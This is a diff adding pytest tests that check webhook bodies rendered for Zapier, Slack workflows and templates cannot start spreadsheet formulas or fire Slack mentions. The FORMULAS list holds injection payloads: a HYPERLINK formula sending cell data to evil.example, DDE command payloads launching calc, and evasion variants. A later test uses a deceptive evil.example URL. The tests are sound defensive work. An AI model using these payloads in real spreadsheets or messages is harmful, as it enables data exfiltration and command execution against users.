@@ -303,6 +303,55 @@ def test_any_job_gives_a_body_within_the_limits(
     check(format, formats.render(format, event(type, job, context=context), replace(REGISTRATION, metadata=metadata)))
 
 
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?" & A1, "Open")',
+    "=cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "+1+cmd|'/C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "\t=1",
+    "\r=1",
+    " \n =1",
+    "\uff1dHYPERLINK(1)",
+    "\uff0b1+A1",
+)
+
+
+@pytest.mark.parametrize("format", ["zapier", "slack_workflow"])
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_text_is_a_formula_in_a_new_row(format: str, text: str) -> None:
+    """Zaps and workflows add rows to spreadsheets: a text of others has an invisible character before it there."""
+    job = COMPLETED | {"id": text, "status": text, "scenario": {"id": text, "name": text, "url": text}}
+    context = replace(CONTEXT, metadata={"note": text, text: text}, requested_by=text, prompt=text)
+    for type, error in ((EventType.COMPLETED, None), (EventType.FAILED, {"code": text, "message": text})):
+        made = event(type, job | {"error": error}, "default", context)
+        for value in json.loads(formats.render(format, made, REGISTRATION)).values():
+            assert not isinstance(value, str) or not value.lstrip().startswith(tuple("=@+-\uff1d\uff0b")), value
+
+
+@pytest.mark.parametrize(
+    "text", ["+1 (415) 555-1234", "-5", "-1/2", "+5,3", "2024-03-01", "jane@acme.com", "a = b", ""]
+)
+def test_numbers_and_addresses_stay_as_they_are_for_programs(text: str) -> None:
+    """A Zap may send a message to the telephone number, or compare the text."""
+    made = event(EventType.COMPLETED, COMPLETED, context=replace(CONTEXT, metadata={"x": text}, requested_by=text))
+    sent = json.loads(formats.render("zapier", made, None))
+    assert (sent["metadata_x"], sent["requested_by"]) == (text, text)
+
+
+def test_a_template_sends_texts_as_exec_wrote_them_and_headlines_that_are_inert() -> None:
+    """Whoever writes the template knows the receiver, and chooses."""
+    name = '=HYPERLINK("x") @channel <!here> mailto:x@evil.example'
+    scenario = {"id": "s1", "name": name, "url": "https://acme.app.exec.com@evil.example/"}
+    made = event(EventType.COMPLETED, COMPLETED | {"scenario": scenario})
+    template = {"raw": "{{ job.scenario.name }}", "inert": "{{ headline }}", "opens": "{{ link }}"}
+    sent = json.loads(formats.render("template", made, None, json.dumps(template)))
+    assert sent["raw"] == name
+    assert sent["inert"].startswith("Scenario ready: ")
+    assert not any(alive in sent["inert"] for alive in ("@channel", "<!here", "mailto:x"))
+    assert sent["opens"] is None
+
+
 @given(job=jobs)
 def test_the_standard_body_has_the_job_unchanged(job: dict[str, Any]) -> None:
     """Every field, known or not, unless JSON can't represent it."""
